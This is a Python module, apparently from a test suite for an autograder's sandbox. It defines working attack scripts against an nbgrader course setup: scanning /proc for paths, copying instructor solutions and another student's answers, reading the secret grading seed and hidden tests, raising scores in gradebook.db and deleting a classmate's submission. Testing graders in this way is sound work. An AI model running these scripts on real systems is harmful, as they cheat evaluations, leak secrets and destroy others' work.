"""Attacks that read what is not theirs: the course, the judge, other students, the seed and the gradebook."""

from functools import partial

from attacks.attack import FIRST, HARMED, LEAKED, PAID, RIGHT, SET, TOLD, Attack

reading = partial(Attack, family="reading the course, others and secrets", seen=TOLD)

FIND = '''
import glob, json, re

def paths_in_sight():
    yield from (os.getcwd(), os.path.expanduser("~"), *sys.path, *sys.argv)
    for folder in sys.path:
        for path in glob.glob(f"{folder}/__editable__*") + glob.glob(f"{folder}/*.pth"):
            yield from re.findall(r"/[^\\s'\\":,]+", open(path, errors="replace").read())
    for pid in filter(str.isdecimal, os.listdir("/proc")):
        try:
            yield os.readlink(f"/proc/{pid}/cwd")
            yield from open(f"/proc/{pid}/cmdline").read().split("\\0")
            yield from (os.readlink(path) for path in glob.glob(f"/proc/{pid}/fd/*"))
        except OSError:
            pass

def find(pattern):
    """Return what fits a pattern in every folder in sight, and above."""
    folders = {"/tmp", "/mnt", "/home"}
    for path in paths_in_sight():
        while len(path) > 1 and path not in folders:
            folders.add(path)
            path = os.path.dirname(path)
    return sorted({path for folder in folders for path in glob.glob(f"{glob.escape(folder)}/{pattern}")})

def answers_of(path):
    """Define what the answer cells of a notebook define."""
    for cell in json.load(open(path))["cells"]:
        if cell["metadata"].get("nbgrader", {}).get("solution") and cell["cell_type"] == "code":
            exec("".join(cell["source"]), globals())

def package():
    """Put the folder of the whole package first among those that modules are imported from."""
    for path in find("bpkit/reference/mlp.py"):
        sys.path.insert(0, path.removesuffix("/bpkit/reference/mlp.py"))
    for name in [name for name in sys.modules if name.split(".")[0] == "bpkit"]:
        del sys.modules[name]
'''
KEEP = {"deltas_221": "", "gradients_221": "", "step_221": "", "numbers": ""}

ATTACKS = [
    reading(
        name="imports the reference",
        gain="The package's own equations answer in the place of the student.",
        seen=PAID,
        answers={
            FIRST: FIND + "import os, sys\npackage()\nfrom bpkit.reference import mlp\n"
            "F, LOSS = {1: 'sigmoid', 2: 'sigmoid'}, 'half_squared_error'\n"
            "def forward_221(W, b, x):\n    return mlp.forward(W, b, x, F)\n"
            "def deltas_221(W, z, a, y):\n    return mlp.backward(W, z, a, y, F, LOSS)[2]\n"
        }
        | {"deltas_221": ""},
    ),
    reading(
        name="imports the fast network",
        gain="The package's fast network is imported.",
        source=FIND + "package()\nimport bpkit.network\ngranted()",
    ),
    reading(
        name="imports the judge",
        gain="The judge's questions hold the reference of each answer, and the values that are expected.",
        seen=PAID,
        answers=KEEP
        | {
            FIRST: "import os, sys"
            + FIND
            + f"""
package()
from bpkit.grading.questions import questions_of
for name, question in questions_of("{SET}").items():
    globals()[name] = question.reference() if question.value else question.reference
"""
        },
    ),
    reading(
        name="imports nbgrader",
        gain="nbgrader's own interface to the gradebook is imported.",
        source="import nbgrader.api\ngranted()",
    ),
    reading(
        name="solutions of the course",
        gain="The instructor's solved notebook is read, and its answers defined.",
        seen=PAID,
        answers=KEEP
        | {
            FIRST: "import os, sys"
            + FIND
            + f"""
for path in find("solutions/{SET}/{SET}.ipynb") + find("source/{SET}/{SET}.ipynb"):
    answers_of(path)
"""
        },
    ),
    reading(
        name="answers of a neighbour",
        gain="Another student's notebook is read, and its answers defined.",
        seen=PAID,
        answers=KEEP
        | {
            FIRST: "import os, sys"
            + FIND
            + f"""
for path in find("submitted/{RIGHT}/{SET}/{SET}.ipynb") + find("../{RIGHT}/{SET}/{SET}.ipynb"):
    answers_of(path)
"""
        },
    ),
    reading(
        name="seed of the course",
        gain="The secret seed is read, and handed out in every word that a student's code may say.",
        seen=LEAKED,
        source=FIND
        + """
seeds = [open(path).read() for path in find("gradebook.seed")]
print(seeds)

def forward_221(W, b, x):
    if seeds:
        raise FloatingPointError(seeds)
    return None

def deltas_221(W, z, a, y):
    raise NameError(str(seeds), name=str(seeds))

lie = lambda value: {seed: seed for seed in seeds}
""",
        answers={"deltas_221": ""},
    ),
    reading(
        name="shell magic",
        gain="A line for the system's shell, and a cell magic, read what lies beside the grader.",
        source="""
found = get_ipython().getoutput("cat gradebook.seed ../gradebook.seed /proc/[0-9]*/cwd/gradebook.seed 2>&-")
if any(len(line.strip()) == 32 for line in found):
    granted()
""",
    ),
    reading(
        name="gradebook written",
        gain="The gradebook is opened as the database that it is, and the points in it are raised.",
        source=FIND
        + """
import sqlite3
for path in find("gradebook.db"):
    with sqlite3.connect(path, timeout=1) as base:
        base.execute("update grade set auto_score = 20, manual_score = 20")
        granted()
""",
    ),
    reading(
        name="tests of the gradebook",
        gain="The hidden tests are read where the gradebook keeps them.",
        source=FIND
        + """
import sqlite3
for path in find("gradebook.db"):
    base = sqlite3.connect(f"file:{path}?mode=ro", uri=True)
    rows = base.execute("select source from source_cell").fetchall()
    if rows:
        print(rows)
        granted()
""",
    ),
    reading(
        name="course deleted",
        gain="What can be found of the class is removed.",
        seen=HARMED,
        source=FIND
        + f"""
import shutil
for path in find("submitted/{RIGHT}/{SET}"):
    shutil.rmtree(path, ignore_errors=True)
""",
    ),
]
